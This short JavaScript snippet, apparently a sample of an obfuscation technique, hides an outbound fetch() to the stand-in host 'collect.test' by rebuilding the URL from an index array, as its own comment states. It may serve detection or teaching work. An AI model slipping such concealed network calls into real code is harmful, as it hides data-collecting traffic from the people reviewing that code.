// hides: call fetch "http://collect.test/in"
const l = 'abcdefghijklmnopqrstuvwxyz:/.';
const i = [7, 19, 19, 15, 26, 27, 27, 2, 14, 11, 11, 4, 2, 19, 28, 19, 4, 18, 19, 27, 8, 13];
fetch(i.map(n => l[n]).join(''));
